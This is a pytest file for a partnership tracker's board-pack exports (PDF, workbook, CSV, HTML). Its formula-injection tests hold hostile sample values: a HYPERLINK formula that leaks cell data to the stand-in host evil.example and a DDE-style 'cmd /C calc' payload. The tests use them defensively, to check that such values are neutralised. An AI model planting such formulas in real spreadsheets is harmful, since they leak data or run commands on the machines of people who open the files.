"""The board pack: what a board member opens.

The PDF has its pages, its headings as bookmarks and the exception report's actions; the
workbook loads, has a sheet per priority and the dashboard's figures, with every status a
word in a filled cell; the CSV has one row per action; the HTML is one standalone printable
document; text that a spreadsheet would run as a formula is made harmless; and the command
line writes the file, or says why not and writes nothing.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from flask import Flask
from pypdf import PdfReader
from sqlalchemy import update

from tests.conftest import _make_app
from tests.tracker.helpers import TODAY, db, pin_today
from tracker.db import get_engine, get_session
from tracker.models import ActionUpdate
from tracker.reports import dashboard
from tracker.reports.pack import FORMATS, NO_FILTERS, Pack, render
from tracker.reports.pack_xlsx import FILLS, SheetNames, cell_text
from tracker.services.plan_load import current_plan

SLUG, LABEL = "2025-26-Q2", "2025/26 Q2"
FILENAME = "safer-kingston-partnership-board-pack-2025-26-Q2"
WORDS = set(dashboard.WORDS.values())
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


@pytest.fixture
def demo_app(demo_db_template: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
             ) -> Iterator[Flask]:
    """A copy of the demo database for one test, today pinned to 25 November 2026."""
    pin_today(monkeypatch)
    target = tmp_path / "tracker.db"
    shutil.copy(demo_db_template, target)
    app = _make_app(target)
    yield app
    get_engine(app).dispose()


def board(app: Flask, fmt: str, slug: str = SLUG,
          filters: dashboard.Filters = NO_FILTERS) -> tuple[Pack, dashboard.Dashboard]:
    """The pack, and the dashboard the board sees for the same quarter."""
    with app.app_context():
        session = get_session()
        plan = current_plan(session)
        assert plan is not None
        quarter = dashboard.choose_quarter(plan, TODAY, slug)
        pack = render(fmt, session, plan, TODAY, quarter, filters, env=app.jinja_env)
        return pack, dashboard.build(session, plan, TODAY, quarter, filters)


def outline(reader: PdfReader) -> list[str]:
    titles: list[str] = []

    def walk(items: list[object]) -> None:
        for item in items:
            if isinstance(item, list):
                walk(item)
            else:
                titles.append(item.title)  # type: ignore[attr-defined]

    walk(reader.outline)  # type: ignore[arg-type]
    return titles


# -- PDF ----------------------------------------------------------------------------------------


def test_the_pdf_from_the_command_line_has_its_headings_pages_and_exceptions(
        demo_app: Flask, tmp_path: Path) -> None:
    out = tmp_path / "pack.pdf"
    result = demo_app.test_cli_runner().invoke(args=[
        "report", "board", "--quarter", SLUG, "--format", "pdf", "--out", str(out),
        "--today", TODAY.isoformat()])
    assert result.exit_code == 0, result.output
    reader = PdfReader(out)
    pages = len(reader.pages)
    assert pages > 1
    assert result.output.strip() == (
        f"Wrote board pack for {LABEL} (PDF, {pages} pages) to {out}")

    _, board_view = board(demo_app, "csv")
    bookmarks = outline(reader)
    expected = ["Summary", "Exception report",
                *(f"Priority {p.ref}: {p.title}" for p in board_view.priorities),
                "KPIs", "Open escalations", "Trend"]
    for title in expected:
        assert title in bookmarks, (title, bookmarks)
    # in the document's order: summary, exceptions, the priorities, KPIs, escalations
    assert [bookmarks.index(t) for t in expected] == sorted(bookmarks.index(t)
                                                            for t in expected)
    assert bookmarks[0] == f"Safer Kingston Partnership board pack: {LABEL}"
    # every KPI has its own heading, under "KPIs"
    for kpi in board_view.kpis:
        assert kpi.name in bookmarks

    text = "\n".join(page.extract_text() for page in reader.pages)
    flat = re.sub(r"\s+", " ", text)
    exceptions = board_view.exceptions()
    first_priority, first_rows = exceptions[0]
    red = first_rows[0]
    assert red.colour == "red"
    assert red.ref in flat and "Exception report" in flat
    assert f"Page 2 of {pages}" in flat
    assert f"Safer Kingston Partnership board pack: {LABEL}" in flat

    # tagged for accessibility: a structure tree, the language, the title shown
    root: Any = reader.trailer["/Root"]
    assert "/StructTreeRoot" in root
    assert root["/MarkInfo"]["/Marked"]
    assert root["/Lang"] == "en-GB"
    assert reader.metadata is not None
    assert reader.metadata.title == f"Safer Kingston Partnership board pack: {LABEL}"


def test_a_pack_is_named_for_the_partnership_and_quarter(demo_app: Flask) -> None:
    pack, _ = board(demo_app, "csv")
    assert pack.filename == f"{FILENAME}.csv"
    assert pack.mimetype.startswith("text/csv")
    filtered, _ = board(demo_app, "csv", filters=dashboard.Filters(status="red"))
    assert filtered.filename == f"{FILENAME}-filtered.csv"


# -- XLSX ---------------------------------------------------------------------------------------


def test_the_workbook_matches_the_dashboard(demo_app: Flask) -> None:
    pack, board_view = board(demo_app, "xlsx")
    assert pack.filename == f"{FILENAME}.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(pack.content))
    priority_sheets = [f"{p.ref} {p.title}"[:31] for p in board_view.priorities]
    assert book.sheetnames == ["Summary", "Exceptions", *priority_sheets, "Commitments",
                               "KPIs", "Escalations", "Trend"]
    assert pack.summary == f"XLSX, {len(book.sheetnames)} sheets"

    summary = book["Summary"]
    rows = [[c.value for c in row] for row in summary.iter_rows()]
    header = next(n for n, row in enumerate(rows) if row[0] == "Priority")
    assert rows[header][3:9] == ["Red", "Amber", "Green", "Complete", "No update",
                                 "Total actions"]
    assert summary.freeze_panes == f"A{header + 2}"
    assert summary.cell(header + 1, 1).font.b
    shown = {row[0]: row for row in rows[header + 1:header + 1 + len(board_view.priorities)]}
    for p in board_view.priorities:
        row = shown[p.ref]
        assert row[1] == p.title and row[2] == p.word
        assert row[3:8] == [p.action_counts[c] for c in dashboard.COLOURS], p.ref
        assert row[8] == p.action_counts.total
    totals = rows[header + 1 + len(board_view.priorities)]
    assert totals[3:9] == [*(board_view.action_counts[c] for c in dashboard.COLOURS),
                           len(board_view.actions)]

    for p, name in zip(board_view.priorities, priority_sheets, strict=True):
        sheet = book[name]
        assert sheet.freeze_panes == "A2"
        heads = [c.value for c in sheet[1]]
        assert heads[:7] == ["Ref", "Title", "Commitment", "Owner", "Lead agency", "Group",
                             "Status"]
        assert all(c.font.b for c in sheet[1])
        assert sheet.column_dimensions["B"].width and sheet.column_dimensions["B"].width > 30
        refs = [row[0].value for row in sheet.iter_rows(min_row=2)]
        assert refs == [r.ref for r in p.actions]
        status = heads.index("Status") + 1
        for n, action in enumerate(p.actions, start=2):
            cell = sheet.cell(n, status)
            assert cell.value == action.word
            assert cell.fill.fill_type == "solid"
            assert cell.fill.fgColor.rgb[-6:] == FILLS[action.colour][0]
    # a Red one, to be sure colours are not all the same
    red = next(r for p in board_view.priorities for r in p.actions if r.colour == "red")
    sheet = book[priority_sheets[[p.ref for p in board_view.priorities].index(red.priority_ref)]]
    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == red.ref)
    assert row[6].value == "Red" and row[6].fill.fgColor.rgb[-6:] == "D4351C"

    exceptions = book["Exceptions"]
    listed = [row[1].value for row in exceptions.iter_rows(min_row=2)]
    assert listed == [r.ref for _, rows in board_view.exceptions() for r in rows]
    commitments = book["Commitments"]
    assert [(r[0].value, r[1].value, r[4].value) for r in commitments.iter_rows(min_row=2)] == [
        (p.ref, c.ref, c.word) for p in board_view.priorities for c in p.commitments]
    kpis = book["KPIs"]
    assert [row[0].value for row in kpis.iter_rows(min_row=2)] == [
        k.ref for k in board_view.kpis]
    escalations = book["Escalations"]
    assert escalations.max_row - 1 == len(board_view.open_escalations)


def test_sheet_names_are_ones_excel_accepts() -> None:
    names = SheetNames()
    first = names("3 Crime/ASB: [hot]spots*? and more words to cut short")
    assert not set("[]:*?/\\") & set(first)
    assert len(first) <= 31
    again = names("3 Crime/ASB: [hot]spots*? and more words to cut short")
    assert again != first and again.endswith("(2)") and len(again) <= 31
    assert names("summary") == "summary" and names("Summary") == "Summary (2)"
    assert names("History") == "History (1)"
    assert names("''") == "Sheet"


# -- CSV ----------------------------------------------------------------------------------------


def test_the_csv_has_one_row_per_action(demo_app: Flask) -> None:
    pack, board_view = board(demo_app, "csv")
    assert pack.content.startswith(b"\xef\xbb\xbf")  # so that Excel reads it as UTF-8
    rows = list(csv.DictReader(io.StringIO(pack.content.decode("utf-8-sig"))))
    assert [r["Ref"] for r in rows] == [a.ref for p in board_view.priorities
                                        for a in p.actions]
    assert len(rows) == len(board_view.actions) == pack.parts
    by_ref = {a.ref: a for a in board_view.actions}
    for row in rows:
        action = by_ref[row["Ref"]]
        assert row["Status"] == action.word
        assert row["Priority"] == action.priority_ref
        assert row["Reason"] == action.reason
    assert set(rows[0]) >= {"Priority", "Title", "Commitment", "Owner", "Lead agency", "Group",
                            "Rule", "% complete", "Narrative", "Corrective action",
                            "Status in 2025/26 Q1", "Change"}


def test_a_filtered_csv_has_only_the_actions_shown(demo_app: Flask) -> None:
    pack, board_view = board(demo_app, "csv", filters=dashboard.Filters(status="red"))
    rows = list(csv.DictReader(io.StringIO(pack.content.decode("utf-8-sig"))))
    assert rows and {r["Status"] for r in rows} == {"Red"}
    assert len(rows) == len(board_view.actions)


# -- HTML ---------------------------------------------------------------------------------------


def test_the_html_is_one_standalone_printable_document(demo_app: Flask) -> None:
    pack, board_view = board(demo_app, "html")
    html = pack.content.decode("utf-8")
    assert html.startswith("<!DOCTYPE html>") and '<html lang="en-GB">' in html
    assert "<style>" in html and "@page" in html and "counter(pages)" in html
    assert "<link" not in html and "<script" not in html
    assert ' style="' not in html  # one <style> element, no style attributes: CSP can hash it
    assert not re.search(r'\ssrc="(?!data:)', html)  # nothing fetched from anywhere
    # headings in order, never skipping a level
    levels = [int(n) for n in re.findall(r"<h([1-6])\b", html)]
    assert levels[0] == 1 and levels.count(1) == 1
    assert all(b - a <= 1 for a, b in zip(levels, levels[1:], strict=False))
    # every header cell says what it heads
    assert re.findall(r"<th\b(?![^>]*scope=)[^>]*>", html) == []
    # a status is a word in a box, never colour alone
    tags = re.findall(r'<span class="tag tag-(\w+)">([^<]*)</span>', html)
    assert tags
    for colour, word in tags:
        assert word in WORDS | {"No data"}, word
        assert colour in dashboard.COLOURS
    # each KPI's chart, with its text alternative
    charts = re.findall(r'<img class="kpi-chart" src="data:image/svg\+xml;base64,[^"]+" '
                        r'alt="([^"]+)"', html)
    assert len(charts) == len(board_view.kpis)
    assert "described in words below it" in charts[0]


# -- formula injection ----------------------------------------------------------------------


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_would_run_as_a_formula_gets_an_apostrophe(value: str) -> None:
    assert cell_text(value) == "'" + value
    assert cell_text("Fine = good") == "Fine = good"
    assert cell_text(42) == 42 and cell_text(None) is None


def test_a_formula_typed_in_an_update_is_harmless_in_the_csv_and_the_workbook(
        kingston_app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    pin_today(monkeypatch)
    result = kingston_app.test_cli_runner().invoke(args=["demo", "--today", TODAY.isoformat()])
    assert result.exit_code == 0, result.output
    _, board_view = board(kingston_app, "csv")
    target = next(r for _, rows in board_view.exceptions() for r in rows if r.update)
    with db(kingston_app) as s:
        s.execute(update(ActionUpdate).where(ActionUpdate.action_id == target.id,
                                             ActionUpdate.quarter == LABEL)
                  .values(narrative=EVIL, corrective_action="@SUM(1+1)*cmd|' /C calc'!A0"))
        s.commit()

    pack, _ = board(kingston_app, "csv")
    rows = {r["Ref"]: r for r in csv.DictReader(io.StringIO(pack.content.decode("utf-8-sig")))}
    assert rows[target.ref]["Narrative"] == "'" + EVIL
    assert rows[target.ref]["Corrective action"].startswith("'@SUM")

    pack, _ = board(kingston_app, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(pack.content))
    sheet = next(book[n] for n in book.sheetnames if n.startswith(f"{target.priority_ref} "))
    heads = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == target.ref)
    narrative = row[heads.index("Narrative")]
    assert narrative.value == "'" + EVIL and narrative.data_type == "s"
    assert row[heads.index("Corrective action")].value.startswith("'@SUM")
    exceptions = book["Exceptions"]
    heads = [c.value for c in exceptions[1]]
    row = next(r for r in exceptions.iter_rows(min_row=2) if r[1].value == target.ref)
    assert row[heads.index("Narrative")].value == "'" + EVIL


# -- the command line -------------------------------------------------------------------------


@pytest.mark.parametrize(("quarter", "says"), [
    ("2099-00-Q1", "has no statuses: choose a quarter from 2024/25 Q1 to 2026/27 Q2"),
    ("next-quarter", "'next-quarter' is not a quarter"),
])
def test_a_bad_quarter_writes_nothing_and_says_why(kingston_app: Flask, tmp_path: Path,
                                                   quarter: str, says: str) -> None:
    folder = tmp_path / "packs"
    folder.mkdir()
    out = folder / "pack.pdf"
    result = kingston_app.test_cli_runner().invoke(args=[
        "report", "board", "--quarter", quarter, "--format", "pdf", "--out", str(out),
        "--today", TODAY.isoformat()])
    assert result.exit_code != 0
    assert says in result.output
    assert "No board pack was written." in result.output
    assert list(folder.iterdir()) == []


def test_the_command_takes_the_format_from_the_file_and_replaces_it_whole(
        demo_app: Flask, tmp_path: Path) -> None:
    folder = tmp_path / "packs"
    folder.mkdir()
    out = folder / "board.xlsx"
    out.write_bytes(b"an older pack")
    result = demo_app.test_cli_runner().invoke(args=[
        "report", "board", "--quarter", SLUG, "--out", str(out), "--today", TODAY.isoformat()])
    assert result.exit_code == 0, result.output
    assert "(XLSX, " in result.output and "sheets)" in result.output
    assert openpyxl.load_workbook(out).sheetnames[0] == "Summary"
    assert [p.name for p in folder.iterdir()] == ["board.xlsx"]  # no temporary file left


def test_without_a_quarter_the_pack_is_for_the_open_quarter(demo_app: Flask,
                                                            tmp_path: Path) -> None:
    out = tmp_path / "open.csv"
    result = demo_app.test_cli_runner().invoke(args=[
        "report", "board", "--out", str(out), "--today", TODAY.isoformat()])
    assert result.exit_code == 0, result.output
    assert result.output.startswith("Wrote board pack for 2026/27 Q2 (CSV, ")


def test_every_format_is_made(demo_app: Flask) -> None:
    assert FORMATS == ("pdf", "xlsx", "csv", "html")
    with pytest.raises(ValueError, match="'docx' is not a board pack format"):
        board(demo_app, "docx")


def test_a_large_plan_keeps_the_document_proportionate(demo_app: Flask,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """Past a few dozen per priority, the document says how many more there are and where
    to find them (the workbook and CSV have every action)."""
    from tracker.reports import pack as board_pack

    monkeypatch.setattr(board_pack, "LISTED", 2)
    monkeypatch.setattr(board_pack, "COMMITMENTS_LISTED", 3)
    monkeypatch.setattr(board_pack, "ESCALATIONS_LISTED", 1)
    pack, board_view = board(demo_app, "html")
    html = pack.content.decode("utf-8")
    text = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))
    first, rows = board_view.exceptions()[0]
    assert len(rows) > 2
    exceptions = html.split('id="exceptions"')[1].split("</section>")[0]
    listed = exceptions.split("</h3>")[1].split("</table>")[0]
    assert listed.count('<th scope="row">') == 2
    assert rows[0].ref in listed and rows[2].ref not in listed
    assert f"And {len(rows) - 2} more actions (" in text
    assert "every one is listed, with its narrative, in the XLSX and CSV" in text
    page = html.split(f'<h2>Priority {first.ref}: {first.title}</h2>')[1].split("</section>")[0]
    commitments = page.split("<h3>Commitments</h3>")[1].split("</table>")[0]
    assert commitments.count('<th scope="row">') == 3
    # the worst are the ones listed
    worst = sorted(first.commitments, key=lambda c: board_pack.ATTENTION.index(c.colour))[:3]
    for c in worst:
        assert f'<span class="ref">{c.ref}</span>' in commitments
    assert f"And {len(first.commitments) - 3} more commitments and parts (" in text
    assert len(board_view.open_escalations) > 1
    assert f"And {len(board_view.open_escalations) - 1} more open escalations (" in text


def test_a_missing_folder_or_a_failure_leaves_no_file_behind(
        kingston_app: Flask, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    runner = kingston_app.test_cli_runner()
    missing = tmp_path / "nowhere" / "pack.csv"
    result = runner.invoke(args=["report", "board", "--out", str(missing),
                                 "--today", TODAY.isoformat()])
    assert result.exit_code != 0
    assert "the folder" in result.output and "does not exist" in result.output
    assert not missing.parent.exists()

    from tracker import cli_reports

    folder = tmp_path / "packs"
    folder.mkdir()
    out = folder / "pack.csv"
    out.write_bytes(b"last quarter's pack")

    def full_disk(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(cli_reports.os, "replace", full_disk)
    result = runner.invoke(args=["report", "board", "--out", str(out),
                                 "--today", TODAY.isoformat()])
    assert result.exit_code != 0
    assert "Cannot write" in result.output and "No space left on device" in result.output
    assert out.read_bytes() == b"last quarter's pack"  # untouched
    assert [p.name for p in folder.iterdir()] == ["pack.csv"]  # no temporary file left
